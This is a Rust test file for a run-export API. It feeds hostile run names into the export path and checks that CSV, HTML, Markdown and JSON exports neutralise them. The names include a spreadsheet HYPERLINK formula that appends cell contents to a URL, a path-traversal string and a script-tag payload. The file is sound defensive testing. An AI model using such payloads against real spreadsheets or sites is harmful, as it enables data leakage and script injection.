//! Files of runs whose names a stranger chose: a spreadsheet's formula, a path out of the folder, markup.

use axum::http::{StatusCode, header};
use serde_json::{Value, json};
use speedmatrix_shared::{api::path, export::ExportFormat};

use crate::server::{Agent, agent};

/// Stores the sample under another id and name.
async fn bring(agent: &Agent, id: &str, name: &str) {
    let mut file: Value = agent.get("/api/v1/runs/reference/export?format=json").await.json();
    file["run"]["id"] = json!(id);
    file["run"]["plan"]["name"] = json!(name);
    // What a measurement may be below zero stays a number.
    file["run"]["cells"][0]["state"]["result"]["stats"]["per_user_tok_s"] = json!(-3.5);
    let answer = agent.post(&format!("{}?name=x.json", path::IMPORT), file.to_string()).await;
    assert!(answer.status.is_success(), "{}", answer.body);
}

#[tokio::test]
async fn hostile_names_stay_text_and_make_no_paths() {
    let agent = agent().await;
    let names = [
        ("formula", "=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"ok\")"),
        ("path", "../../org/model,\"x\""),
        ("markup", "<script>alert(1)</script>"),
        ("tab", "@SUM(A1)"),
    ];
    for (id, name) in names {
        bring(&agent, id, name).await;
        for format in ExportFormat::ALL {
            let extension = format.extension();
            let file = agent.get(&format!("/api/v1/runs/{id}/export?format={extension}")).await;
            assert_eq!(file.status, StatusCode::OK);
            let told = file.header(header::CONTENT_DISPOSITION);
            let stem = told.strip_prefix("attachment; filename=\"speedmatrix-");
            let stem = stem.and_then(|rest| rest.strip_suffix(&format!("-{id}.{extension}\"")));
            assert!(stem.is_some_and(|stem| stem.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')), "{told}");
            match format {
                ExportFormat::Csv => {
                    let row = file.body.lines().nth(1).unwrap();
                    let quoted = name.replace('"', "\"\"");
                    let guard = if name.starts_with(['=', '@']) { "'" } else { "" };
                    assert!(row.contains(&format!("{guard}{quoted}")), "{row}");
                    assert!(
                        !row.split(',').any(|field| field.trim_start_matches('"').starts_with(['=', '@'])),
                        "{row}"
                    );
                    assert!(row.split(',').any(|field| field == "-3.5"), "{row}");
                }
                ExportFormat::Html | ExportFormat::Markdown => assert!(!file.body.contains("<script"), "{name}"),
                ExportFormat::Json => {
                    assert_eq!(file.json::<Value>()["run"]["plan"]["name"], name);
                }
            }
        }
    }
}
